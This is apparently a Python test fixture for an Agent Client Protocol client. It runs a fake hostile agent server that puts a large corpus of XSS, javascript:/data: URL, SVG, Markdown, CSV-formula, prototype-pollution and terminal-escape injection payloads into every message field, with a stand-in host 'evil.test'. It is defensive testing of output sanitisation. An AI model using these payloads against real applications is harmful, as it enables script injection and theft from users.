"""What a hostile agent could send: texts that would run code, ask somebody for something, or change the page around.

Whatever runs sets `window.pwned`; whatever is asked for has `evil` in its address.
"""

from __future__ import annotations

import asyncio
import json
from typing import Any

from support.acp_server import AcpServer

RUN = "window.pwned=1"

HTML = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    "<script src=https://evil.test/a.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=`x`/onerror={RUN}//>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    "<img src=https://evil.test/img srcset='https://evil.test/srcset 2x'>",
    "<picture><source srcset=https://evil.test/source><img src=/evil></picture>",
    f"<svg onload={RUN}><set attributeName=onmouseover to={RUN}></svg>",
    f"<svg><script>{RUN}</script><foreignObject><iframe src=javascript:{RUN}></foreignObject></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a><use href=https://evil.test/s.svg#x /></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object><embed src=https://evil.test/embed>",
    f"<form action=https://evil.test/form><button formaction=javascript:{RUN}>x</button><input name=password></form>",
    f"<input autofocus onfocus={RUN}><details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video autoplay poster=https://evil.test/poster><source src=/evil onerror={RUN}></video>",
    "<style>@import url(https://evil.test/import); body { display: none }</style>",
    "</style><link rel=stylesheet href=https://evil.test/a.css><link rel=prefetch href=/evil>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/refresh'><base href=https://evil.test/base/>",
    "<div style='position:fixed;inset:0;background:url(https://evil.test/background)'>over everything</div>",
    "<table background=https://evil.test/table><td>x</table>",
    f"<dialog open>trust me</dialog><marquee onstart={RUN}>x</marquee><body onload={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<!--><img src=x onerror={RUN}>--> <![CDATA[<img src=x onerror={RUN}>]]>",
    f"</textarea></title></pre></div></template></xmp><img src=x onerror={RUN}>",
    f"<div><template shadowrootmode=open><img src=x onerror={RUN}></template></div>",
    "<a id=config href=//evil.test/clobber>x</a><img name=body><form id=document><input id=head></form>",
    f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
)

ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f" javascript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&#x0A;script:{RUN}",
    f"javascript://evil.test/%0a{RUN}",
    f"view-source:javascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    "blob:https://evil.test/1",
    "filesystem:https://evil.test/1",
    "file:///etc/passwd",
    "//evil.test/scheme",
    "/evil?shutdown",
    "evil/relative",
    "#evil",
    "https://evil.test/a b",
    f'https://evil.test/" onmouseover="{RUN}',
    f"https://evil.test/'><img src=x onerror={RUN}>",
    f"mailto:a@evil.test?subject=<img src=x onerror={RUN}>",
)

NAMES = ("__proto__", "constructor", "toString", "hasOwnProperty", "valueOf")

MATHS = (
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    "$\\style{background:url(https://evil.test/maths)}{x}$",
    "$\\includegraphics{https://evil.test/maths.png}$",
    f"$$\n\\htmlData{{onclick={RUN}}}{{x}} \\class{{jp-Notebook}}{{y}} \\cssId{{main}}{{z}}\n$$",
)

SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><image href='https://evil.test/svg'/></svg>"

TERMINAL = "\n".join(
    [
        f"\x1b]8;;javascript:{RUN}\x07a link\x1b]8;;\x07",
        "\x1b]8;;https://evil.test/osc\x1b\\another\x1b]8;;\x1b\\",
        f"\x1b]0;<img src=x onerror={RUN}>\x07\x1b]2;evil title\x1b\\",
        "\x1b]52;c;ZXZpbA==\x07\x1b]1337;File=inline=1:AAAA\x07\x1bPq#0evil\x1b\\",
        "\x1b[38;2;url(https://evil.test/ansi)m\x1b[38;2;999;-1;1e9mcoloured\x1b[0m",
        "\x1b[31;48:2::1:2:3m<b>red</b>\x1b[999999999A\x1b[999999999C\x1b[2J",
        *HTML,
    ]
)

JSON = json.dumps({name: {name: HTML[3]} for name in NAMES} | {HTML[5]: list(HTML), "onerror": ADDRESSES[0]})
CSV = "name,value\n" + "\n".join(f'"{cell}",1' for cell in ("=cmd|' /C evil'!A0", "@SUM(1)", *(HTML[:5])))


def markdown() -> str:
    """Every text above in every place of Markdown."""
    lines = ["# The corpus", *(f"Inline {html} goes on." for html in HTML), *HTML]
    for number, address in enumerate(ADDRESSES):
        title = f"\" onmouseover='{RUN}'"
        lines += [
            f"[link]({address}) [angle](<{address}> {json.dumps(title)}) <{address}> ![image]({address})",
            f"![angle](<{address}>) [by name][r{number}] ![by name][r{number}]\n\n[r{number}]: <{address}>",
        ]
    for number, html in enumerate(HTML):
        label = "".join("/" if each in " []" else each for each in html)
        note = f"[^{label}]: {html} [x]({ADDRESSES[number % len(ADDRESSES)]})\n\n    {html}\n\n    > {html}"
        lines += [f"A note[^{label}], again[^{label}], and itself.\n\n{note} [^{label}]"]
    for name in (*NAMES, *HTML[3:7]):
        lines += [f"A note[^{name}] and [{name}] ![{name}][{name}]\n\n[^{name}]: {name}\n\n[{name}]: /evil"]
        lines += [f"```{name}\n{HTML[3]}\n```", f"~~~{name} {name}={RUN}\n{HTML[0]}\n~~~"]
    lines += [f"| {html} | [x]({ADDRESSES[0]}) |\n|:-|-:|\n| {html} | `{html}` |" for html in HTML[3:9]]
    lines += [f"- [ ] {html}\n- [x] {html}" for html in HTML[3:6]]
    lines += [f"```html\n{html}\n```\n\n> {html}\n\n    {html}" for html in HTML]
    lines += [f"```ansi\n{TERMINAL}\n```", f"```json\n{JSON}\n```", *MATHS, "The end of the corpus."]
    return "\n\n".join(lines)


class HostileServer(AcpServer):
    """An ACP server that puts such texts wherever text goes. Any prompt is answered with all of it, and a question."""

    def __init__(self) -> None:
        super().__init__(say_everything)
        self.go_on = asyncio.Event()

    async def _answer(self, message: dict[str, Any]) -> None:
        match message["method"]:
            case "initialize":
                able = {"loadSession": True, "promptCapabilities": {"image": True, "embeddedContext": True}}
                info = {"name": HTML[3], "version": HTML[5]}
                result: dict[str, Any] = {"protocolVersion": 1, "agentCapabilities": able, "agentInfo": info}
                await self.send(id=message["id"], result=result)
            case "session/new" if not self.refuse_new:
                self._session = f"s{HTML[3]}{len(self.sessions)}"
                self.sessions[self._session] = []
                modes = [{"id": text, "name": text, "description": text} for text in (*NAMES, *HTML[3:6])]
                models = [{"value": text, "name": text} for text in (*NAMES, *HTML[3:6])]
                options = [{"id": "model", "currentValue": HTML[4], "options": models}]
                settings = {"modes": {"currentModeId": HTML[3], "availableModes": modes}, "configOptions": options}
                await self.send(id=message["id"], result={"sessionId": self._session, **settings})
            case _:
                await super()._answer(message)


def block(text: str) -> dict[str, Any]:
    return {"type": "content", "content": {"type": "text", "text": text}}


def contents() -> list[dict[str, Any]]:
    """Content that is not text: with data, types and addresses that are none."""
    svg = SVG.encode().hex()
    found: list[dict[str, Any]] = [
        {"type": "image", "mimeType": "image/svg+xml", "data": svg},
        {"type": "image", "mimeType": f'image/png" onerror="{RUN}', "data": "AAAA"},
        {"type": "image", "mimeType": "image/png", "data": f'AAAA" onerror="{RUN}'},
        {"type": "image", "mimeType": "text/html", "data": svg},
        {"type": "audio", "mimeType": f'audio/wav" onerror="{RUN}', "data": "AAAA"},
        {"type": "audio", "mimeType": "audio/wav", "data": f'" onerror="{RUN}'},
        {"type": HTML[3], "text": HTML[3]},
    ]
    for address in ADDRESSES:
        found.append({"type": "resource_link", "uri": address, "name": HTML[3], "title": HTML[5]})
        found.append({"type": "resource", "resource": {"uri": address, "mimeType": HTML[3], "text": HTML[5]}})
    for mime, text in (("text/html", HTML[3]), ("image/svg+xml", SVG), ("text/csv", CSV), ("application/json", JSON)):
        found.append({"type": "resource", "resource": {"uri": f"file:///{HTML[5]}", "mimeType": mime, "text": text}})
    return found


async def say_everything(server: HostileServer, prompt: str) -> str:  # type: ignore[override]
    """The turn."""
    await server.update("session_info_update", title=f"{HTML[3]}{HTML[5]}")
    commands = [{"name": text, "description": text, "input": {"hint": text}} for text in (*NAMES, *HTML)]
    await server.update("available_commands_update", availableCommands=commands)
    await server.update("usage_update", used=1, size=2, cost={"amount": 1, "currency": HTML[3]})
    await server.update("agent_thought_chunk", content={"type": "text", "text": markdown()}, messageId="t")
    plan = [{"content": html, "status": html, "priority": html} for html in (*HTML, *NAMES)]
    await server.update("plan", entries=plan)
    await server.update(HTML[3], content=HTML[5])  # unknown, so a notice with its source
    await server.raw(f"{HTML[3]} no JSON")
    for content in contents():
        await server.update("agent_message_chunk", content=content, messageId=None)
    calls: list[dict[str, Any]] = [
        *({"title": html, "rawInput": {"command": html, html: html}, "rawOutput": html} for html in HTML),
        *({"title": name, "kind": name, "rawInput": {name: name}, "locations": [{"path": name}]} for name in NAMES),
        {"title": "json", "rawInput": json.loads(JSON), "rawOutput": json.loads(JSON)},
        {"title": "edit", "rawInput": {"path": HTML[5], "before": "\n".join(HTML), "after": "\n".join(HTML[::-1])}},
        {"title": "write", "kind": "edit", "rawInput": {"path": f"{HTML[5]}.html", "content": "\n".join(HTML)}},
        {"title": "diff", "content": [{"type": "diff", "path": HTML[5], "oldText": HTML[3], "newText": SVG}]},
        {"title": "texts", "content": [block(text) for text in (markdown(), TERMINAL, JSON, CSV, f"[{JSON}]", SVG)]},
        {"title": "others", "content": [{"type": "content", "content": each} for each in contents()]},
        {"title": "odd", "content": [{"type": HTML[3]}, 7, None], "locations": [{"path": HTML[3], "line": 1}, HTML[5]]},
        {"title": "shell", "rawOutput": {"stdout": TERMINAL, "stderr": SVG, "exit_code": 7}, "status": "failed"},
    ]
    for number, call in enumerate(calls):
        meta = {"goose": {"toolCall": {"toolName": HTML[3], "extensionName": HTML[5]}}}
        await server.update("tool_call", **{"toolCallId": f"c{number}", "status": "completed", "_meta": meta, **call})
    live = {"type": "live_output", "params": {"chunks": [{"stream": "stdout", "output": TERMINAL}]}}
    await server.update("tool_call", toolCallId="live", title="live", status="in_progress")
    notes = {"toolNotification": live}
    await server.update("tool_call_update", toolCallId="live", status="in_progress", _meta=notes)
    await server.update("tool_call_update", toolCallId="live", status=HTML[3])
    await server.text(markdown(), "m")
    await server.go_on.wait()
    options = [
        *({"optionId": f"{name}{HTML[3]}", "name": f"{name} {HTML[5]}", "kind": name} for name in NAMES),
        {"optionId": HTML[3], "name": HTML[3], "kind": HTML[3]},
        {"optionId": HTML[5], "name": HTML[5], "kind": "allow_always"},
        {"optionId": "yes", "name": HTML[5], "kind": "allow_once"},
    ]
    question = {"toolCallId": "q", "title": HTML[3], "rawInput": {"command": "\n".join(HTML), HTML[5]: HTML}}
    params = {"sessionId": server._session, "toolCall": question, "options": options}
    await server.send(id=HTML[3], method="session/request_permission", params=params)
    await server.answers.get()
    return HTML[3]  # why it ended
